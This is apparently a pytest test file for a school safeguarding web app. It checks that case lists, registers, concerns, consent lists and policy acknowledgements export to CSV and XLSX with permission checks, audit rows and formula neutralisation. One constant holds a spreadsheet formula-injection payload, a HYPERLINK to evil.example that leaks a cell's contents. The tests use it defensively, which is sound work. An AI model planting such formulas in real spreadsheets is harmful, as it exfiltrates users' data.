"""Exports of the lists and registers: the rows the page shows (all pages), as CSV or XLSX, neutralised and audited."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.utils.timezone import localdate

from socialsafe.audit.models import AuditEvent
from socialsafe.audit.words import PHRASES
from socialsafe.concerns.services import (
    concern_confirm,
    concern_submit,
    photo_consent_set,
    policy_acknowledge,
    policy_version_publish,
)
from socialsafe.incidents.models import ActionKind, Kind, Platform, ResponsibleKind, TargetKind
from socialsafe.incidents.services import action_add, incident_report
from socialsafe.incidents.tests.factories import report_fields
from socialsafe.lib import export
from socialsafe.lib.csvsafe import neutralise
from socialsafe.lib.tests.clock import days_ago
from socialsafe.registers.models import IctBan
from socialsafe.registers.tests.factories import make_ban
from socialsafe.schools.models import SchoolClass
from socialsafe.schools.tests.factories import GuardianFactory, PupilFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def xlsx_sheet(response):
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == export.CONTENT_TYPES["xlsx"]
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def xlsx_rows(response) -> list[tuple]:
    return list(xlsx_sheet(response).iter_rows(values_only=True))


def exports(verb: str):
    return AuditEvent.objects.filter(verb=verb)


def pupil_case(school, by, pupil, **overrides):
    fields = report_fields(
        kind=Kind.PUPIL_CYBERBULLYING,
        target_kind=TargetKind.PUPIL,
        target_pupil=pupil,
        platform=Platform.SNAPCHAT,
        out_of_hours=False,
        grounds=[],
        **overrides,
    )
    return incident_report(school=school, by=by.user, fields=fields)


# The module itself


def test_it_writes_text_never_formulas_in_both_formats():
    rows = [{"text": HOSTILE, "day": localdate(), "n": 3}]
    columns = [("Text", lambda r: r["text"]), ("Day", lambda r: r["day"]), ("Count", lambda r: r["n"])]
    got = csv_rows(export.export_response(rows, columns, "csv", "x.csv"))
    assert got == [["Text", "Day", "Count"], ["'" + HOSTILE, localdate().isoformat(), "3"]]
    sheet = xlsx_sheet(export.export_response(rows, columns, "xlsx", "x.xlsx"))
    text, day, count = sheet[2]
    assert text.data_type == "s" and text.value == "'" + HOSTILE
    assert day.is_date and day.value.date() == localdate()
    assert count.data_type == "n" and count.value == 3


def test_it_keeps_a_formula_out_even_without_the_leading_sign(monkeypatch):
    # A text cell that openpyxl would read as a formula is typed as a string whatever the neutralising does.
    monkeypatch.setattr(export, "neutralise", lambda v: v)
    sheet = xlsx_sheet(export.export_response([HOSTILE], [("Text", str)], "xlsx", "x.xlsx"))
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == HOSTILE


def test_it_strips_characters_a_spreadsheet_cannot_hold():
    sheet = xlsx_sheet(export.export_response(["bell\x07 here"], [("Text", str)], "xlsx", "x.xlsx"))
    assert sheet["A2"].value == "bell here"


def test_it_refuses_an_unknown_format_and_records_nothing():
    seen = []
    r = export.export_response([], [("Text", str)], "pdf", "x.pdf", audit=lambda **kw: seen.append(kw))
    assert r.status_code == 400 and b"choose csv or xlsx" in r.content
    assert seen == []


def test_it_bounds_a_spreadsheet_before_writing_any_of_it(monkeypatch):
    monkeypatch.setattr(export, "XLSX_MAX_ROWS", 2)
    seen = []
    r = export.export_response(["a", "b", "c"], [("Text", str)], "xlsx", "x.xlsx", audit=lambda **kw: seen.append(kw))
    assert r.status_code == 400 and b"download the CSV" in r.content and seen == []
    assert len(csv_rows(export.export_response(["a", "b", "c"], [("Text", str)], "csv", "x.csv"))) == 4


# The case list


def test_it_exports_the_filtered_case_list_as_the_page_shows_it(client, principal, school):
    for n in range(3):
        incident_report(school=school, by=principal.user, fields=report_fields(summary=f"WhatsApp case {n}"))
    facebook = incident_report(
        school=school, by=principal.user, fields=report_fields(platform=Platform.FACEBOOK, summary=HOSTILE)
    )
    client.force_login(principal.user)
    page = client.get("/incidents/?platform=facebook")
    assert [i.pk for i in page.context["page"].object_list] == [facebook.pk]
    assert 'href="?platform=facebook&amp;format=csv"' in page.content.decode()

    r = client.get("/incidents/?platform=facebook&format=csv")
    assert r["Content-Disposition"] == f'attachment; filename="glenmore-cases-{localdate().isoformat()}.csv"'
    rows = csv_rows(r)
    assert rows[0] == ["Reference", "Summary", "Kind", "Reported", "Handler", "State"]
    assert [row[:2] for row in rows[1:]] == [[facebook.reference, "'" + HOSTILE]]
    assert dt.datetime.fromisoformat(rows[1][3]).date() == localdate()

    rows = xlsx_rows(client.get("/incidents/?platform=facebook&format=xlsx"))
    assert rows[1][:2] == (facebook.reference, "'" + HOSTILE)
    assert isinstance(rows[1][3], dt.datetime)

    event = exports("export.cases").first()
    assert event.actor == principal.user and event.school == school
    assert event.data == {"format": "xlsx", "filters": {"platform": "facebook"}, "rows": 1}
    assert exports("export.cases").count() == 2
    assert HOSTILE not in str(event.data)


def test_it_exports_every_page_not_just_the_first(client, principal, school):
    for n in range(27):
        incident_report(school=school, by=principal.user, fields=report_fields(summary=f"Case {n}"))
    client.force_login(principal.user)
    assert len(client.get("/incidents/").context["page"].object_list) == 25
    assert len(csv_rows(client.get("/incidents/?page=1&format=csv"))) == 28


def test_a_class_teacher_exports_only_the_cases_the_page_shows_them(client, school, teacher, office, principal):
    mine = pupil_case(school, office, PupilFactory(school=school), summary="About my pupil")
    p6 = SchoolClass.objects.create(school=school, name="P6", year_group=6)
    theirs = pupil_case(school, office, PupilFactory(school=school, school_class=p6), summary="About a P6 pupil")
    client.force_login(teacher.user)
    shown = {i.reference for i in client.get("/incidents/").context["page"].object_list}
    exported = {row[0] for row in csv_rows(client.get("/incidents/?format=csv"))[1:]}
    assert exported == shown and mine.reference in exported and theirs.reference not in exported
    assert {row[0] for row in xlsx_rows(client.get("/incidents/?format=xlsx"))[1:]} == shown


def test_a_governors_case_is_never_in_the_principals_export(client, school, principal, chair, staff):
    governors = incident_report(
        school=school, by=staff.user, fields=report_fields(target_kind=TargetKind.PRINCIPAL, summary="Zqxj secret")
    )
    ordinary = incident_report(school=school, by=principal.user, fields=report_fields())
    client.force_login(principal.user)
    for fmt in ("csv", "xlsx"):
        for query in ("", "&q=Zqxj", f"&q={governors.reference}"):
            r = client.get(f"/incidents/?format={fmt}{query}")
            rows = csv_rows(r) if fmt == "csv" else xlsx_rows(r)
            assert governors.reference not in {row[0] for row in rows}
    assert {row[0] for row in csv_rows(client.get("/incidents/?format=csv"))[1:]} == {ordinary.reference}
    client.force_login(chair.user)
    assert {row[0] for row in csv_rows(client.get("/incidents/?format=csv"))[1:]} == {governors.reference}


def test_another_schools_principal_exports_none_of_ours(client, case, outsider):
    client.force_login(outsider.user)
    assert csv_rows(client.get("/incidents/?format=csv")) == [
        ["Reference", "Summary", "Kind", "Reported", "Handler", "State"]
    ]


@pytest.mark.parametrize(
    "query, message",
    [
        ("format=csv&since=not-a-date", b"Reported from: Enter a valid date."),
        ("format=xlsx&kind=nonsense", b"Kind: Select a valid choice."),
        ("format=pdf", b"Unknown format 'pdf'"),
        ("format=", b"Unknown format ''"),
    ],
)
def test_it_refuses_bad_input_with_a_400_and_no_file(client, principal, case, query, message):
    client.force_login(principal.user)
    r = client.get(f"/incidents/?{query}")
    assert r.status_code == 400 and message in r.content
    assert r["Content-Type"].startswith("text/plain") and "Content-Disposition" not in r
    assert not exports("export.cases").exists()


def test_a_person_without_the_case_list_cannot_export_it(client, parent):
    client.force_login(parent.user)
    assert client.get("/incidents/?format=csv").status_code == 403


# The actions list


def test_it_exports_both_lists_of_actions_as_the_page_shows_them(client, principal, case):
    action_add(
        incident=case, by=principal.user, kind=ActionKind.MEETING, title=HOSTILE, owner=principal.member,
        due_on=days_ago(2),
    )  # fmt: skip
    client.force_login(principal.user)
    page = client.get("/incidents/actions/")
    assert 'href="?format=csv"' in page.content.decode()
    mine = [neutralise(a.title) for a in page.context["mine"]]
    rows = csv_rows(client.get("/incidents/actions/?format=csv"))
    assert rows[0] == ["List", "Action", "Case", "Who", "Due", "Overdue"]
    assert [row[1] for row in rows[1:] if row[0] == "Yours to do"] == mine and mine
    assert {row[2] for row in rows[1:]} == {case.reference}
    assert "'" + HOSTILE in [row[1] for row in rows] and ["Overdue on the cases you manage", "'" + HOSTILE] in [
        r[:2] for r in rows
    ]
    sheet = xlsx_rows(client.get("/incidents/actions/?format=xlsx"))
    assert all(isinstance(row[4], dt.datetime) for row in sheet[1:])
    assert exports("export.actions").first().data["rows"] == len(rows) - 1
    assert client.get("/incidents/actions/?format=docx").status_code == 400


def test_the_actions_export_holds_nothing_of_a_case_hidden_from_the_person(client, school, principal, staff, chair):
    hidden = incident_report(school=school, by=staff.user, fields=report_fields(target_kind=TargetKind.PRINCIPAL))
    client.force_login(principal.user)
    assert hidden.reference not in {row[2] for row in csv_rows(client.get("/incidents/actions/?format=csv"))}


# The registers


def test_it_exports_the_premises_register(client, school, principal, abusive_parent, case):
    ban = make_ban(case, by=principal.user)
    client.force_login(principal.user)
    assert 'href="?format=xlsx"' in client.get("/registers/premises/").content.decode()
    r = client.get("/registers/premises/?format=csv")
    assert r["Content-Disposition"].endswith(f'glenmore-premises-register-{localdate().isoformat()}.csv"')
    rows = csv_rows(r)
    assert rows[1] == [
        ban.name,
        ban.starts_on.isoformat(),
        ban.ends_on.isoformat(),
        ban.review_on.isoformat(),
        case.reference,
        ban.state_label,
    ]
    sheet = xlsx_rows(client.get("/registers/premises/?format=xlsx"))
    assert sheet[1][1].date() == ban.starts_on
    assert exports("export.premises").count() == 2


def test_the_premises_export_follows_the_pages_need_to_know(client, school, principal, chair, staff, case):
    poster = GuardianFactory(school=school, first_name="Gail", last_name="Hidden")
    fields = report_fields(
        target_kind=TargetKind.PRINCIPAL, responsible_kind=ResponsibleKind.PARENT, responsible_guardian=poster
    )
    governors = incident_report(school=school, by=staff.user, fields=fields)
    make_ban(governors, by=chair.user)
    make_ban(case, by=principal.user)
    client.force_login(principal.user)
    rows = csv_rows(client.get("/registers/premises/?format=csv"))
    assert [row[4] for row in rows[1:]] == [case.reference]
    assert "Hidden" not in str(rows)
    client.force_login(chair.user)  # the Chair does not keep the register
    assert client.get("/registers/premises/?format=csv").status_code == 403


def test_it_exports_the_ict_register_with_hostile_text_neutralised(client, school, principal, teacher):
    pupil = PupilFactory(school=school, first_name="Rory", last_name="Quinn")
    fields = report_fields(
        kind=Kind.FIREWALL,
        platform=Platform.NONE,
        out_of_hours=False,
        grounds=[],
        target_kind=TargetKind.SCHOOL,
        responsible_kind=ResponsibleKind.PUPIL,
        responsible_pupil=pupil,
    )
    case = incident_report(school=school, by=teacher.user, fields=fields)
    IctBan.objects.create(
        school=school, incident=case, pupil=pupil, reason=HOSTILE, starts_on=days_ago(3), created_by=principal.user
    )
    client.force_login(principal.user)
    rows = csv_rows(client.get("/registers/ict/?format=csv"))
    assert rows[1][:5] == ["Rory Quinn", "P4", "'" + HOSTILE, days_ago(3).isoformat(), "Further notice"]
    sheet = xlsx_sheet(client.get("/registers/ict/?format=xlsx"))
    assert sheet["C2"].data_type == "s" and sheet["C2"].value == "'" + HOSTILE
    assert exports("export.ict_bans").first().data == {"format": "xlsx", "filters": {}, "rows": 1}
    client.force_login(teacher.user)
    assert client.get("/registers/ict/?format=csv").status_code == 403


# Parents' concerns


def make_concern(school, **overrides):
    fields = {
        "name": "Sinead Kelly",
        "email": "sinead.kelly@example.com",
        "relationship": "mother",
        "topic": "social_media",
        "what_happened": "A parent posted in the P4 WhatsApp group that Mr Burns is useless.",
        "wanted_outcome": "I would like the post taken down.",
    }
    fields.update(overrides)
    return concern_confirm(concern=concern_submit(school=school, fields=fields))


def test_it_exports_the_concerns_log_with_its_tab(client, school, other_school, principal):
    hostile = make_concern(school, name=HOSTILE)
    make_concern(other_school, name="Someone at Riverside", email="someone@riverside.example")
    client.force_login(principal.user)
    page = client.get("/concerns/inbox/?status=new")
    assert 'href="?status=new&amp;format=csv"' in page.content.decode()
    rows = csv_rows(client.get("/concerns/inbox/?status=new&format=csv"))
    assert [row[:4] for row in rows[1:]] == [[hostile.reference, "New", hostile.get_topic_display(), "'" + HOSTILE]]
    assert "Mr Burns" not in str(rows)  # the page shows no free text, nor does its export
    assert csv_rows(client.get("/concerns/inbox/?status=closed&format=csv"))[1:] == []
    sheet = xlsx_sheet(client.get("/concerns/inbox/?status=all&format=xlsx"))
    assert sheet.max_row == 2 and sheet["D2"].data_type == "s" and sheet["F2"].is_date
    assert exports("export.concerns").first().data == {"format": "xlsx", "filters": {"status": "all"}, "rows": 1}
    r = client.get("/concerns/inbox/?status=bogus&format=csv")
    assert r.status_code == 400 and b"Unknown state" in r.content
    assert exports("export.concerns").count() == 3


def test_a_class_teacher_cannot_export_the_concerns_log(client, teacher):
    client.force_login(teacher.user)
    assert client.get("/concerns/inbox/?format=csv").status_code == 403


# Policy acknowledgements and photo consent


def test_it_exports_who_has_acknowledged_a_policy(client, school, principal, teacher):
    version = policy_version_publish(
        school=school, kind="staff-guidance", by=principal.user, label="1", published_on=localdate(), text="Be kind."
    )
    policy_acknowledge(version=version, by=teacher.user)
    client.force_login(principal.user)
    assert 'href="?format=csv"' in client.get("/concerns/policies/staff-guidance/").content.decode()
    rows = csv_rows(client.get("/concerns/policies/staff-guidance/?format=csv"))
    states = {row[0]: row[2] for row in rows[1:]}
    assert states[teacher.member.display_name] == "Acknowledged"
    assert states[principal.member.display_name] == "Not yet"
    sheet = xlsx_rows(client.get("/concerns/policies/staff-guidance/?format=xlsx"))
    acknowledged = {row[0]: row[3] for row in sheet[1:]}
    assert isinstance(acknowledged[teacher.member.display_name], dt.datetime)
    assert exports("export.acknowledgements").first().data["filters"] == {"kind": "staff-guidance"}
    assert client.get("/concerns/policies/staff-guidance/?format=ods").status_code == 400


def test_a_class_teacher_exports_the_photo_consent_of_their_own_class_only(client, school, teacher, parent):
    PupilFactory(school=school, first_name="Orla", last_name="Byrne")  # in the teacher's P4
    child = parent.guardian.links.get().pupil
    photo_consent_set(pupil=child, guardian=parent.guardian, by=parent.user, may_publish=False)
    client.force_login(teacher.user)
    rows = csv_rows(client.get("/concerns/consent/school/?format=csv"))
    assert [row[:4] for row in rows[1:]] == [["Byrne", "Orla", "P4", "Not answered"]]
    assert exports("export.consent").first().data == {"format": "csv", "filters": {}, "rows": 1}
    r = client.get("/concerns/consent/school/?show=everything&format=csv")
    assert r.status_code == 400 and b"Unknown choice" in r.content


def test_the_principal_exports_the_consent_list_with_its_filter(client, school, principal, parent):
    PupilFactory(school=school, first_name="Orla", last_name="Byrne")
    child = parent.guardian.links.get().pupil
    photo_consent_set(pupil=child, guardian=parent.guardian, by=parent.user, may_publish=False)
    client.force_login(principal.user)
    assert 'href="?show=no&amp;format=xlsx"' in client.get("/concerns/consent/school/?show=no").content.decode()
    sheet = xlsx_rows(client.get("/concerns/consent/school/?show=no&format=xlsx"))
    assert [row[:4] for row in sheet[1:]] == [("Kelly", "Aoife", "P2", "No")]
    assert isinstance(sheet[1][4], dt.datetime)


def test_the_filtered_fragment_carries_its_filters_into_the_download_links(client, principal, case):
    client.force_login(principal.user)
    r = client.get("/incidents/?platform=facebook&status=open", headers={"HX-Request": "true"})
    assert b"<h1" not in r.content
    assert 'href="?platform=facebook&amp;status=open&amp;format=xlsx"' in r.content.decode()


def test_an_export_is_only_ever_a_get(client, principal, case):
    client.force_login(principal.user)
    assert client.post("/incidents/?format=csv").status_code == 405
    assert not exports("export.cases").exists()


EXPORTS = {
    "/incidents/": "export.cases",
    "/incidents/actions/": "export.actions",
    "/registers/premises/": "export.premises",
    "/registers/ict/": "export.ict_bans",
    "/concerns/inbox/": "export.concerns",
    "/concerns/policies/social-media/": "export.acknowledgements",
    "/concerns/consent/school/": "export.consent",
}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("url", EXPORTS)
def test_each_export_writes_exactly_one_audit_row_and_nothing_else(client, principal, case, url, fmt):
    client.force_login(principal.user)
    before = AuditEvent.objects.order_by("-pk").values_list("pk", flat=True).first() or 0
    r = client.get(f"{url}?format={fmt}", REMOTE_ADDR="198.51.100.7")
    body = b"".join(r.streaming_content) if r.streaming else r.content
    assert r.status_code == 200 and body
    assert r["Content-Disposition"].startswith('attachment; filename="glenmore-')
    events = list(AuditEvent.objects.filter(pk__gt=before))
    assert [e.verb for e in events] == [EXPORTS[url]]
    event = events[0]
    assert (event.actor, event.ip_address, event.school, event.case_id) == (
        principal.user,
        "198.51.100.7",
        case.school,
        None,
    )
    assert event.data["format"] == fmt and isinstance(event.data["rows"], int)
    assert event.verb in PHRASES
